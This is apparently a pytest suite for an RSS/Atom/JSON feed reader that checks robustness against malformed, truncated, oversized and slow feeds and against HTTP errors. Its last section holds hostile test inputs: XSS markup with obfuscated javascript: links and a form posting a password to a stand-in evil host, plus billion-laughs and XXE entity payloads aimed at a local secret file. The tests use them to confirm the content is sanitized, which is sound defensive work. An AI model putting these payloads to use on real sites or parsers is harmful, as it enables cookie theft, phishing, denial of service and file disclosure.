"""Issue 2's bad-input list, one test each.

Every bad feed is refreshed beside a healthy one: the refresh ends, the bad feed gets one
clear error (or, where something was readable, its articles and a recorded problem), and the
healthy feed is stored as if nothing happened.
"""

from __future__ import annotations

import resource
import sqlite3
import time
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from briefing.core.models import FeedReport
from briefing.core.paths import archive_path

from .feedkit import (
    LIMITS,
    Archive,
    Item,
    assert_inert,
    items,
    json_feed,
    report_for,
    rss,
)

HEALTHY = "/healthy.xml"


def refresh_beside_healthy(feed_server, archive: Archive, bad_path: str, *more: str,
                           ) -> tuple[FeedReport, float]:
    """Refresh the feed at bad_path (and more) beside a healthy feed; (bad report, seconds)."""
    feed_server.add(HEALTHY, rss(items(2, prefix="healthy")), etag='"h1"')
    bad_url, healthy_url = feed_server.url(bad_path), feed_server.url(HEALTHY)
    archive.subscribe(bad_url, *(feed_server.url(p) for p in more), healthy_url)
    started = time.monotonic()
    report = archive.refresh()
    elapsed = time.monotonic() - started
    assert len(report.feeds) == 2 + len(more), report
    healthy = report_for(report, healthy_url)
    assert (healthy.status, healthy.new, healthy.error) == (200, 2, None)
    assert len(archive.articles(healthy_url)) == 2
    return report_for(report, bad_url), elapsed


def assert_one_sentence(error: str | None) -> None:
    assert error, "expected an error"
    assert "\n" not in error and "Traceback" not in error
    assert error[0].isupper() and error.endswith((".", ")")) and len(error) < 300, error


# -- what came back is not (all) a feed ---------------------------------------------------


def test_malformed_xml_keeps_what_parses(feed_server, archive) -> None:
    good = rss(items(3, prefix="ok"))
    broken = good.replace(
        b"</channel>",
        b"<item><title>Rates & spreads</titel><guid>bad-1</guid><description>x</item>"
        b"</channel>",
    )
    feed_server.add("/malformed.xml", broken)

    bad, _ = refresh_beside_healthy(feed_server, archive, "/malformed.xml")

    assert bad.new >= 3
    stored = {a.guid for a in archive.articles(feed_server.url("/malformed.xml"))}
    assert {"ok-0", "ok-1", "ok-2"} <= stored
    feed = archive.feed(feed_server.url("/malformed.xml"))
    problem = bad.error or feed.last_error
    assert problem and "malformed" in problem.lower()


def test_a_feed_cut_off_mid_item_keeps_the_complete_items(feed_server, archive) -> None:
    whole = rss(items(3, prefix="cut"))
    cut = whole[: whole.index(b"<item>", whole.index(b"cut-1")) + 20]
    feed_server.add("/cut.xml", cut)

    bad, _ = refresh_beside_healthy(feed_server, archive, "/cut.xml")

    stored = {a.guid for a in archive.articles(feed_server.url("/cut.xml"))}
    assert {"cut-0", "cut-1"} <= stored
    assert bad.error or archive.feed(feed_server.url("/cut.xml")).last_error


def test_an_html_page_where_a_feed_was_expected(feed_server, archive) -> None:
    page = ("<!DOCTYPE html><html><head><title>Markets</title></head><body>"
            "<h1>Welcome to our new website</h1><p>Our feeds have moved.</p></body></html>")
    feed_server.add("/page.xml", page, content_type="text/html; charset=utf-8")

    bad, _ = refresh_beside_healthy(feed_server, archive, "/page.xml")

    assert bad.new == 0
    assert_one_sentence(bad.error)
    assert "web page" in (bad.error or "")
    assert archive.feed(feed_server.url("/page.xml")).last_error == bad.error


def test_an_empty_body(feed_server, archive) -> None:
    feed_server.add("/empty.xml", b"")

    bad, _ = refresh_beside_healthy(feed_server, archive, "/empty.xml")

    assert bad.new == 0
    assert_one_sentence(bad.error)
    assert "empty" in (bad.error or "")


def test_well_formed_xml_that_is_not_a_feed(feed_server, archive) -> None:
    sitemap = (b'<?xml version="1.0" encoding="utf-8"?>'
               b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
               b"<url><loc>https://news.example.test/markets</loc></url></urlset>")
    feed_server.add("/sitemap.xml", sitemap)

    bad, _ = refresh_beside_healthy(feed_server, archive, "/sitemap.xml")

    assert bad.new == 0
    assert_one_sentence(bad.error)
    assert "None" not in (bad.error or ""), bad.error


def test_binary_garbage(feed_server, archive) -> None:
    feed_server.add("/noise.xml", bytes(range(256)) * 40, content_type="application/xml")

    bad, _ = refresh_beside_healthy(feed_server, archive, "/noise.xml")

    assert bad.new == 0
    assert_one_sentence(bad.error)


# -- the transfer goes wrong ---------------------------------------------------------------


def test_an_endless_body_stops_at_the_size_cap(feed_server, archive) -> None:
    head = rss(items(1, prefix="endless")).split(b"</channel>")[0]
    feed_server.endless("/endless.xml", head=head)

    bad, elapsed = refresh_beside_healthy(feed_server, archive, "/endless.xml")

    assert_one_sentence(bad.error)
    assert "larger than 1 MB" in (bad.error or "")
    assert elapsed < LIMITS.deadline + 3


def test_the_size_cap_message_names_a_cap_below_one_megabyte(feed_server, archive) -> None:
    archive.limits = replace(LIMITS, max_bytes=256 * 1024)
    feed_server.endless("/endless.xml")

    bad, _ = refresh_beside_healthy(feed_server, archive, "/endless.xml")

    assert "larger than" in (bad.error or "")
    assert "than 0 MB" not in (bad.error or ""), bad.error


def test_a_server_that_never_answers_times_out(feed_server, archive) -> None:
    feed_server.hang("/silent.xml")

    bad, elapsed = refresh_beside_healthy(feed_server, archive, "/silent.xml")

    assert bad.status is None
    assert_one_sentence(bad.error)
    assert elapsed < LIMITS.deadline + 3
    assert len(feed_server.requests("/silent.xml")) == 1


def test_a_server_that_drips_a_byte_a_second_meets_the_deadline(feed_server, archive) -> None:
    # Each byte comes well inside the read timeout: only the whole-response deadline helps.
    archive.limits = replace(LIMITS, read_timeout=3.0, deadline=1.5)
    feed_server.drip("/drip.xml", rss(items(2, prefix="drip")), interval=1.0)

    bad, elapsed = refresh_beside_healthy(feed_server, archive, "/drip.xml")

    assert_one_sentence(bad.error)
    assert "1.5 s" in (bad.error or "")
    assert elapsed < 1.5 + 3  # the whole body would take minutes at this pace
    assert archive.articles(feed_server.url("/drip.xml")) == []


def test_a_connection_reset_mid_body(feed_server, archive) -> None:
    feed_server.reset("/reset.xml", rss(items(40, prefix="reset")))

    bad, _ = refresh_beside_healthy(feed_server, archive, "/reset.xml")

    assert bad.status is None and bad.new == 0
    assert_one_sentence(bad.error)
    assert "broke off" in (bad.error or "")


def test_a_body_shorter_than_its_content_length(feed_server, archive) -> None:
    body = rss(items(3, prefix="short"))
    feed_server.wrong_length("/short.xml", body, declared=len(body) + 500)

    bad, _ = refresh_beside_healthy(feed_server, archive, "/short.xml")

    assert bad.new == 0
    assert_one_sentence(bad.error)


def test_a_truncated_gzip_body(feed_server, archive) -> None:
    feed_server.truncated_gzip("/trunc.xml", rss(items(30, prefix="trunc")))

    bad, _ = refresh_beside_healthy(feed_server, archive, "/trunc.xml")

    assert bad.new == 0
    assert_one_sentence(bad.error)
    assert "cut short" in (bad.error or "") or "corrupt" in (bad.error or "")


def test_a_body_that_claims_gzip_but_is_not(feed_server, archive) -> None:
    feed_server.add("/fake.xml", rss(items(2)), headers={"Content-Encoding": "gzip"})

    bad, _ = refresh_beside_healthy(feed_server, archive, "/fake.xml")

    assert_one_sentence(bad.error)
    assert "corrupt" in (bad.error or "")


def test_a_gzip_bomb_stops_at_the_cap(feed_server, archive) -> None:
    feed_server.gzip_bomb("/bomb.xml")
    before_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    bad, elapsed = refresh_beside_healthy(feed_server, archive, "/bomb.xml")

    assert_one_sentence(bad.error)
    assert "larger than" in (bad.error or "")
    grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before_kib) / 1024
    assert grown_mib < 100, f"memory grew by {grown_mib:.0f} MiB decoding a 200 MB bomb"
    assert elapsed < 10


# -- the server says no --------------------------------------------------------------------


def test_404(feed_server, archive) -> None:
    feed_server.add("/missing.xml", "Not here.", status=404, content_type="text/plain")

    bad, _ = refresh_beside_healthy(feed_server, archive, "/missing.xml")

    assert bad.status == 404
    assert_one_sentence(bad.error)
    assert "404" in (bad.error or "")


def test_410(feed_server, archive) -> None:
    feed_server.add("/retired.xml", status=410)

    bad, _ = refresh_beside_healthy(feed_server, archive, "/retired.xml")

    assert bad.status == 410
    assert_one_sentence(bad.error)
    assert archive.feed(feed_server.url("/retired.xml")).gone


def test_500(feed_server, archive) -> None:
    feed_server.add("/crash.xml", "<h1>Internal Server Error</h1>", status=500,
                    content_type="text/html")

    bad, _ = refresh_beside_healthy(feed_server, archive, "/crash.xml")

    assert bad.status == 500
    assert_one_sentence(bad.error)
    assert "500" in (bad.error or "")


def test_429_with_retry_after(feed_server, archive) -> None:
    feed_server.add("/limited.xml", status=429, headers={"Retry-After": "600"})

    bad, _ = refresh_beside_healthy(feed_server, archive, "/limited.xml")

    assert bad.status == 429
    assert_one_sentence(bad.error)
    wait = datetime.fromisoformat(
        archive.feed(feed_server.url("/limited.xml")).next_check or "") - datetime.now(UTC)
    assert timedelta(minutes=9) < wait <= timedelta(minutes=10)


def test_a_redirect_loop(feed_server, archive) -> None:
    feed_server.redirect_loop("/loop.xml")

    bad, _ = refresh_beside_healthy(feed_server, archive, "/loop.xml")

    assert_one_sentence(bad.error)
    assert "redirect" in (bad.error or "")
    hops = feed_server.requests("/loop.xml") + feed_server.requests("/loop.xml/again")
    assert len(hops) <= 6  # the first request and at most five redirects


# -- what came back is a feed, but a hostile or huge one -------------------------------------


def test_a_feed_of_ten_thousand_items_is_stored_whole(feed_server, archive) -> None:
    archive.limits = replace(LIMITS, max_bytes=20 * 1024 * 1024, deadline=10.0)
    feed_server.add("/huge.xml", rss(items(10_000, prefix="huge")))

    bad, _ = refresh_beside_healthy(feed_server, archive, "/huge.xml")

    assert (bad.new, bad.error) == (10_000, None)
    count = archive.call(lambda s: s.store.count_articles())
    assert count == 10_000 + 2
    again = archive.refresh()
    assert report_for(again, feed_server.url("/huge.xml")).new == 0


HOSTILE = """
<p onclick="steal()" onmouseover="steal()">Earnings beat forecasts by a wide margin.</p>
<script>steal(document.cookie)</script>
<style>body { display: none }</style>
<iframe src="https://evil.example.test/frame"></iframe>
<object data="https://evil.example.test/x.swf"></object>
<embed src="https://evil.example.test/x.swf">
<form action="https://evil.example.test/login"><input name="password"><button>Go</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example.test/">
<base href="https://evil.example.test/">
<link rel="stylesheet" href="https://evil.example.test/x.css">
<img src="https://news.example.test/chart.png" alt="Quarterly revenue chart" onerror="steal()">
<a href="javascript:steal()">plain javascript link</a>
<a href="JaVaScRiPt&#58;steal()">entity-hidden javascript link</a>
<a href="jav&#x09;ascript:steal()">tab-split javascript link</a>
<a href="data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+">data link</a>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InN0ZWFsKCkiLz4=" alt="inline">
<svg onload="steal()"><circle r="4"/></svg>
<math><mtext><script>steal()</script></mtext></math>
<div style="background:url(javascript:steal())">Margins widened in the quarter.</div>
<template><script>steal()</script></template>
<!--[if IE]><script>steal()</script><![endif]-->
<table><tr><td background="javascript:steal()">cell</td></tr></table>
<a href="https://news.example.test/results" target="_blank">the full results</a>
"""


def test_hostile_html_in_items_is_stored_inert(feed_server, archive) -> None:
    entries = [
        Item("hostile-1", "Results <script>steal()</script>beat", HOSTILE,
             link="https://news.example.test/hostile-1"),
    ]
    body = rss(entries).replace(
        b"</item>",
        b"<content:encoded><![CDATA[" + HOSTILE.encode() + b"]]></content:encoded></item>",
    ).replace(b'<rss version="2.0">',
              b'<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">')
    feed_server.add("/hostile.xml", body)
    atom = ("""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Hostile Atom</title><id>urn:x:hostile</id>
<updated>2025-03-04T08:00:00Z</updated>
<entry><id>hostile-2</id><title>Atom hostile</title><updated>2025-03-04T08:00:00Z</updated>
<link href="https://news.example.test/hostile-2"/>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">
<p onclick="steal()">Atom text survives.</p><script>steal()</script>
<a href="javascript:steal()">x</a><iframe src="https://evil.example.test/"/></div></content>
<summary type="html">""" + HOSTILE.replace("&", "&amp;").replace("<", "&lt;") + """</summary>
</entry></feed>""").encode()
    feed_server.add("/hostile.atom", atom, content_type="application/atom+xml")
    feed_server.add("/hostile.json", json_feed([Item("hostile-3", "JSON hostile", HOSTILE)]),
                    content_type="application/feed+json")
    sneaky = Item("hostile-4", "Sneaky link", "<p>Click the headline.</p>",
                  link="javascript:steal()")
    feed_server.add("/sneaky.xml", rss([sneaky]))

    bad, _ = refresh_beside_healthy(feed_server, archive, "/hostile.xml", "/hostile.atom",
                                    "/hostile.json", "/sneaky.xml")

    assert bad.new == 1
    stored = archive.articles()
    assert len(stored) == 6
    assert_inert(stored)
    by_guid = {a.guid: a for a in stored}
    one = by_guid["hostile-1"]
    assert "Earnings beat forecasts" in one.text and "Margins widened" in one.text
    assert "steal(" not in one.text and "steal(" not in one.title
    assert "<script" not in one.title
    assert 'src="https://news.example.test/chart.png"' in one.content_html  # images by reference
    assert 'href="https://news.example.test/results"' in one.content_html
    atom_entry = next(a for a in stored if a.title == "Atom hostile")
    assert "Atom text survives." in atom_entry.text
    assert "Earnings beat forecasts" in by_guid["hostile-3"].text
    assert by_guid["hostile-4"].url is None or by_guid["hostile-4"].url.startswith("http")


def test_noscript_fallback_markup_does_not_show_as_article_text(feed_server, archive) -> None:
    body = ('<p>Dividend raised.</p><noscript><img src="https://t.example.test/pixel.gif" '
            'onerror="steal()"></noscript><p>Shares rose.</p>')
    feed_server.add("/noscript.xml", rss([Item("ns-1", "Dividend", body)]))

    bad, _ = refresh_beside_healthy(feed_server, archive, "/noscript.xml")

    (stored,) = archive.articles(feed_server.url("/noscript.xml"))
    assert_inert([stored])
    assert "Dividend raised." in stored.text and "Shares rose." in stored.text
    assert "<img" not in stored.text and "steal(" not in stored.text, stored.text


def _laughs(levels: int = 9) -> str:
    lines = ['<!ENTITY lol0 "lol">']
    for i in range(1, levels + 1):
        lines.append(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">')
    return "\n".join(lines)


def test_entity_expansion_billion_laughs(feed_server, archive) -> None:
    body = f"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE rss [
{_laughs()}
]>
<rss version="2.0"><channel><title>Laughing &lol9;</title><link>https://news.example.test/</link>
<item><guid>laugh-1</guid><title>Bond yields edge up &lol9;</title>
<description>Treasury yields rose for a third session. &lol9;</description></item>
</channel></rss>
""".encode()
    feed_server.add("/laughs.xml", body)

    bad, elapsed = refresh_beside_healthy(feed_server, archive, "/laughs.xml")

    assert elapsed < 10
    for a in archive.articles(feed_server.url("/laughs.xml")):
        assert len(a.title) < 1000 and len(a.text) < 10_000
        assert "lollollollol" not in a.text
    feed = archive.feed(feed_server.url("/laughs.xml"))
    assert len(feed.title) < 1000 and "lollollollol" not in feed.title
    size = Path(archive_path(archive.data_dir)).stat().st_size
    assert size < 5 * 1024 * 1024


def test_external_entities_never_read_local_files(feed_server, archive, tmp_path) -> None:
    secret = tmp_path / "private-notes.txt"
    secret.write_text("PORTFOLIO-PASSWORD-7f3a91\n", encoding="utf-8")
    dtd = tmp_path / "evil.dtd"
    dtd.write_text(f'<!ENTITY fromdtd SYSTEM "{secret.as_uri()}">', encoding="utf-8")
    feed_server.add("/remote.dtd", f'<!ENTITY remote SYSTEM "{secret.as_uri()}">',
                    content_type="application/xml-dtd")
    body = f"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE rss [
<!ENTITY leak SYSTEM "{secret.as_uri()}">
<!ENTITY leakpath SYSTEM "{secret}">
<!ENTITY % viadtd SYSTEM "{dtd.as_uri()}">
%viadtd;
<!ENTITY % overhttp SYSTEM "{feed_server.url('/remote.dtd')}">
%overhttp;
]>
<rss version="2.0"><channel><title>Notes &leak;</title><link>https://news.example.test/</link>
<item><guid>xxe-1</guid><title>Oil climbs &leak;&leakpath;</title>
<description>Crude rose on supply worries. &leak; &leakpath; &fromdtd; &remote;</description>
</item></channel></rss>
""".encode()
    feed_server.add("/xxe.xml", body)

    refresh_beside_healthy(feed_server, archive, "/xxe.xml")

    conn = sqlite3.connect(archive_path(archive.data_dir))
    try:
        for table in ("articles", "feeds"):
            for row in conn.execute(f"SELECT * FROM {table}"):
                assert not any("PORTFOLIO-PASSWORD" in str(v) for v in row), (table, row)
    finally:
        conn.close()
    assert feed_server.requests("/remote.dtd") == []  # the parser fetched nothing
    stored = archive.articles(feed_server.url("/xxe.xml"))
    assert all("PORTFOLIO" not in a.text for a in stored)
